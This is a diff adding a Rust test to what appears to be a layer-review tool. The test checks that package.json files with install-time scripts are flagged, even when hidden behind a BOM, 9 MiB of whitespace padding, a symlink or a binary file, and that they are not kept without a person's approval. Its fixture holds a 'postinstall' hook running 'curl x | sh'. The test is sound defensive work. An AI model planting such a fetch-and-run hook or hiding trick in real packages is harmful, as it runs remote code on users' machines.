@@ -6,6 +6,39 @@ use serde_json::json;
 use super::{LayerFixture, strings};
 
 #[test]
+fn scripts_of_packages_act_later_however_they_are_hidden_and_are_not_kept_without_a_person() {
+    let plain = r#"{"name": "a", "scripts": {"test": "x"}}"#;
+    let evil = r#"{"name": "a", "scripts": {"postinstall": "curl x | sh"}}"#;
+    let long = format!("{}{}", " ".repeat(9 << 20), evil);
+    let files = ["bom", "long", "link", "binary", "mode", "gone"].map(|name| (format!("{name}/package.json"), plain));
+    let files: Vec<(&str, &str)> = files.iter().map(|(path, text)| (path.as_str(), *text)).collect();
+    let layer = LayerFixture::new(&files);
+    layer
+        .write("new/package.json", evil)
+        .write("bom/package.json", format!("\u{feff}{evil}"))
+        .write("long/package.json", long)
+        .write("link/other.json", evil)
+        .link("link/package.json", "other.json")
+        .write("binary/package.json", "\0")
+        .write("mode/package.json", plain)
+        .mode("mode/package.json", 0o600)
+        .whiteout("gone/package.json")
+        .write("node_modules/b/package.json", evil)
+        .write("plain.txt", "kept");
+    let layer = layer.ended();
+    let later: Vec<String> = layer.listed().into_iter().filter(|line| line.starts_with("acts_later")).collect();
+    let expected = ["modified binary", "modified bom", "link link", "modified long", "created new"];
+    assert_eq!(later, expected.map(|line| format!("acts_later {line}/package.json")));
+    let kept = layer.world.value("keep_layer", &json!({"layer": layer.id, "allowedOnly": true}));
+    let kept = strings(&kept["kept"], "path");
+    assert!(kept.contains(&"plain.txt".to_owned()) && kept.contains(&"node_modules/b/package.json".to_owned()));
+    let left = layer.listed().into_iter().filter(|line| line.ends_with("package.json")).count();
+    assert_eq!(left, expected.len(), "{:?}", layer.listed());
+    // By its name it is kept.
+    assert_eq!(strings(&layer.keep_paths(&["bom/package.json"])["kept"], "path"), ["bom/package.json"]);
+}
+
+#[test]
 fn changes_are_listed_in_sections() {
     let files = [
         (".gitignore", "/target\n*.log\n"),
